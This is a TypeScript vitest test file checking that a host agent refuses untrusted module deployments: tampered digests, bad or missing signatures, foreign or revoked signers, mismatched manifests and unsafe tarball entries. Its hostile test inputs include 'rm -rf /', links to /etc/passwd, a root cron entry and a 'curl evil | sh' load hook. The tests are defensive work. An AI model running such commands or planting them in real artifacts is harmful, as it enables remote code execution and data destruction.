import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { NodeAgent } from '../../../functions/agent/agent.ts';
import { packArtifact } from '../../../functions/agent/artifact.ts';
import { signManifest, signedModuleVersion, createDevPki, issueRevocationList, serialOf, type DevPki } from '../../../localcloud/devPki.ts';
import { devRoot, issue, signerOf, tlsServer } from '../domain/fixtures/certificates.ts';
import { deployRequest, hostAgent, key, publish, sha256, snapshot, testModule, type HostAgent } from './fixtures/helpers.ts';

let pki: DevPki;
let otherPki: DevPki;
beforeAll(async () => {
  [pki, otherPki] = await Promise.all([createDevPki(), createDevPki({ commonName: 'Someone Else' })]);
});

/** Deploys 1.0.0, then expects `attempt` to be refused with `code` and to change nothing on disk or in the agent. */
async function expectRefusal(h: HostAgent, attempt: () => Promise<unknown>, code: string, message?: RegExp) {
  const before = snapshot(h.dataDir);
  const modulesBefore = h.agent.modules;
  const err = await attempt().then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toMatchObject({ status: 422, code });
  if (message) expect((err as Error).message).toMatch(message);
  expect(snapshot(h.dataDir)).toEqual(before);
  expect(h.agent.modules).toEqual(modulesBefore);
}

describe('host agent refuses what it cannot trust, changing nothing', () => {
  const setUp = async () => {
    const artifacts = new Map<string, Buffer>();
    const v1 = testModule(pki, '1.0.0');
    publish(artifacts, v1);
    const h = hostAgent(pki, { artifacts });
    await h.agent.deploy('mod', deployRequest(v1, 'd1'));
    return { h, artifacts };
  };

  it('a downloaded artifact whose digest differs (tampered in transit or in the bucket)', async () => {
    const { h, artifacts } = await setUp();
    const v2 = testModule(pki, '2.0.0');
    const tampered = Buffer.from(v2.artifact);
    tampered[tampered.length - 20] ^= 0xff;
    artifacts.set(sha256(v2.artifact), tampered);
    await expectRefusal(h, () => h.agent.deploy('mod', deployRequest(v2, 'd2')), 'DigestMismatch');
  });

  it('a tampered artifact whose manifest was edited to match (the signature no longer verifies)', async () => {
    const { h, artifacts } = await setUp();
    const v2 = testModule(pki, '2.0.0');
    const evil = packArtifact([{ path: 'VERSION', data: 'evil' }]);
    publish(artifacts, { artifact: evil, body: v2.body });
    const req = deployRequest(v2, 'd2');
    req.manifest = { ...v2.body.manifest, artifact: { sha256: sha256(evil), sizeBytes: evil.length } };
    req.sha256 = sha256(evil);
    req.artifactUrl = `mem://x/${sha256(evil)}`;
    await expectRefusal(h, () => h.agent.deploy('mod', req), 'SignatureInvalid', /does not match the manifest/);
  });

  it('an unsigned deploy (an orchestrator that sends no manifest, signature or chain)', async () => {
    const { h } = await setUp();
    const v2 = testModule(pki, '2.0.0');
    const { manifest: _m, signature: _s, certificateChain: _c, ...bare } = deployRequest(v2, 'd2');
    await expectRefusal(h, () => h.agent.deploy('mod', bare), 'SignatureRequired');
  });

  it('a manifest signed by a key other than the certificate’s', async () => {
    const { h, artifacts } = await setUp();
    const v2 = testModule(pki, '2.0.0');
    publish(artifacts, v2);
    const req = { ...deployRequest(v2, 'd2'), signature: signManifest(v2.body.manifest, otherPki) };
    await expectRefusal(h, () => h.agent.deploy('mod', req), 'SignatureInvalid');
  });

  it('a valid signature whose chain does not lead to the agent’s roots', async () => {
    const { h, artifacts } = await setUp();
    const foreign = testModule(otherPki, '2.0.0');
    publish(artifacts, foreign);
    await expectRefusal(h, () => h.agent.deploy('mod', deployRequest(foreign, 'd2')), 'SignatureInvalid', /trusted root/);
  });

  it('a module signed by a certificate not meant for code signing (a TLS server certificate under its own root), saying why (issue 15 defect 10)', async () => {
    const { h, artifacts } = await setUp();
    const tls = await issue(await devRoot(pki), 'api.example.com', tlsServer);
    const v2 = testModule({ ...pki, ...signerOf(tls) }, '2.0.0');
    publish(artifacts, v2);
    await expectRefusal(
      h,
      () => h.agent.deploy('mod', deployRequest(v2, 'd2')),
      'SignatureInvalid',
      /^module signature refused: the signer certificate CN=api\.example\.com is not meant for code signing: its key usage \(keyAgreement\) does not include digitalSignature$/,
    );
  });

  it('a module whose signer its configured CRL lists as revoked', async () => {
    const crlFile = join(mkdtempSync(join(tmpdir(), 'agent-crl-')), 'crl.pem');
    writeFileSync(crlFile, await issueRevocationList(pki, []));
    const artifacts = new Map<string, Buffer>();
    const v1 = testModule(pki, '1.0.0');
    const v2 = testModule(pki, '2.0.0');
    publish(artifacts, v1, v2);
    const h = hostAgent(pki, { artifacts, revocationLists: [crlFile] });
    await h.agent.deploy('mod', deployRequest(v1, 'd1'));
    // The signer's key leaks; the CA publishes a CRL that lists it.
    writeFileSync(crlFile, await issueRevocationList(pki, [{ serialNumber: serialOf(pki.signerCertPem) }]));
    await expectRefusal(h, () => h.agent.deploy('mod', deployRequest(v2, 'd2')), 'SignatureInvalid', /is revoked: listed in the CRL from .*crl\.pem/);
  });

  it('a signed manifest of another module or version', async () => {
    const { h, artifacts } = await setUp();
    const other = testModule(pki, '2.0.0', { name: 'other-mod' });
    publish(artifacts, other);
    await expectRefusal(h, () => h.agent.deploy('mod', deployRequest(other, 'd2')), 'ManifestMismatch');
  });

  it('a signed tarball with path traversal, a symlink, or an absolute path', async () => {
    const { h, artifacts } = await setUp();
    const bad = [
      [{ path: '../../escape.sh', data: 'rm -rf /' }],
      [{ path: 'lib', type: 'symlink' as const, linkTo: '/etc' }],
      [{ path: 'hard', type: 'link' as const, linkTo: '/etc/passwd' }],
      [{ path: '/etc/cron.d/x', data: '* * * * * root sh' }],
      [{ path: 'a/../../b', data: 'x' }],
    ];
    for (const [i, entries] of bad.entries()) {
      const artifact = packArtifact(entries);
      const m = signedModuleVersion({ name: 'mod', version: `2.0.${i}`, entrypoint: 'x', resources: { cpuMillicores: 1, memoryMiB: 1 } }, artifact, pki);
      publish(artifacts, { artifact, body: m });
      const t = { artifact, body: { manifest: m.manifest, signature: m.signature, certificateChain: m.certificateChain } };
      await expectRefusal(h, () => h.agent.deploy('mod', deployRequest(t, `bad-${i}`)), 'ArtifactRejected');
    }
  });
});

describe('signature verdicts are cached per host', () => {
  it('verifies a signed manifest once for all agents sharing the cache, and never reuses a verdict for a different manifest', async () => {
    const v2 = testModule(pki, '2.0.0');
    const verdictCache = new Map();
    const agents = ['n1', 'n2', 'n3'].map(
      (nodeId) =>
        new NodeAgent({ nodeId, keys: () => [key], simulation: true, trustRoots: [pki.rootCertPem], verdictCache, fetchArtifact: async () => v2.artifact }),
    );
    for (const a of agents) await a.deploy('mod', deployRequest(v2, 'd1'));
    expect(verdictCache.size).toBe(1);
    // Same artifact and signature, other hooks: a new key, verified, refused.
    const req = deployRequest(v2, 'd2');
    req.manifest = { ...v2.body.manifest, hooks: { load: { command: ['sh', '-c', 'curl evil | sh'] } } };
    await expect(agents[0].deploy('mod', req)).rejects.toMatchObject({ code: 'SignatureInvalid' });
    // Nor is the refusal lent to the genuine manifest.
    await expect(agents[1].deploy('mod', deployRequest(v2, 'd3'))).resolves.toMatchObject({ version: '2.0.0' });
  });
});
